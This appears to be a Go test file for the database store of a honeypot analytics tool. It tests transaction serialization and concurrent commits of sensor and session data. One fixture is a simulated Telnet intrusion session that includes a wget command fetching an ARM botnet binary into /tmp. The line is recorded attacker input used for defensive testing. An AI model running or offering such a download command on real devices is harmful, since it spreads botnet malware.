package duckstore

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/session"
	"github.com/honeyscope/honeyscope/internal/store"
	"github.com/honeyscope/honeyscope/internal/store/storetest"
)

// TestWritesOneAtATime: a second write transaction waits for the first
// (it would otherwise conflict with it at COMMIT on the rows both
// rewrite), or gives up with its context.
func TestWritesOneAtATime(t *testing.T) {
	ctx := context.Background()
	st, err := Open(ctx, filepath.Join(t.TempDir(), "w.duckdb"), Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	tx, err := st.Begin(ctx)
	if err != nil {
		t.Fatal(err)
	}
	wctx, cancel := context.WithTimeout(ctx, 200*time.Millisecond)
	_, err = st.Begin(wctx)
	cancel()
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("second Begin while the first is open: %v, want it to wait until its context ends", err)
	}
	got := make(chan error, 1)
	go func() {
		tx2, err := st.Begin(ctx)
		if err == nil {
			err = tx2.Abort()
		}
		got <- err
	}()
	select {
	case err := <-got:
		t.Fatalf("second Begin returned (%v) while the first is open", err)
	case <-time.After(100 * time.Millisecond):
	}
	if err := tx.Abort(); err != nil {
		t.Fatal(err)
	}
	if err := <-got; err != nil {
		t.Fatalf("second Begin after the first ended: %v", err)
	}

}

// TestRacingCommitsLand: writers at two sensors adding to the same day at
// once (a live capture and an ingest in one serve): each commit recounts
// the day's port peaks and blocks over every sensor; every one lands, and
// the day's packets add up.
func TestRacingCommitsLand(t *testing.T) {
	ctx := context.Background()
	st, err := Open(ctx, filepath.Join(t.TempDir(), "w.duckdb"), Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	var wg sync.WaitGroup
	errs := make(chan error, 16)
	for i := range 16 {
		wg.Go(func() {
			sensor := []string{"a", "b"}[i%2]
			b := readBatch(sensor, fmt.Sprintf("h%d", i), []readHit{
				{src: "192.0.2.10", day: "2026-05-30", port: uint16(23 + i), mirai: true, packets: 3},
				{src: "192.0.2.77", day: "2026-05-30", port: 80, packets: 2},
			})
			_, err := st.Commit(ctx, b)
			errs <- err
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Errorf("commit: %v", err)
		}
	}
	var ingests, packets int64
	if err := st.db.QueryRowContext(ctx, `SELECT (SELECT count(*) FROM ingests), (SELECT sum(packets) FROM rollup_day WHERE class = 'access')`).Scan(&ingests, &packets); err != nil {
		t.Fatal(err)
	}
	if ingests != 16 || packets != 16*5 {
		t.Errorf("%d ingests, %d access packets in rollup_day; want 16 and %d", ingests, packets, 16*5)
	}
}

// TestRacingSessionBatch: two collectors committing one session batch at
// the same instant apply it once (the second finds it recorded): one
// intrusion counted, not two.
func TestRacingSessionBatch(t *testing.T) {
	ctx := context.Background()
	st := openSessions(t)
	done := storetest.Telnet("a1", "hp1", srcA, t0, nil, "enable", "system", "wget http://198.51.100.9/bins/x.arm7 -O /tmp/x")
	batch := []session.Session{done}
	var wg sync.WaitGroup
	errs := make(chan error, 4)
	for range 4 {
		wg.Go(func() {
			hits := storetest.IntrusionHits("b1", "hp1", batch, st.Location())
			errs <- st.CommitSessions(ctx, store.SessionBatch{ID: "b1", Sessions: batch, Hits: hits})
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil && !errors.Is(err, store.ErrDuplicate) {
			t.Errorf("commit: %v", err)
		}
	}
	if n := intrusions(t, st); n != 1 {
		t.Errorf("%d intrusions after 4 racing commits of one batch, want 1", n)
	}
}
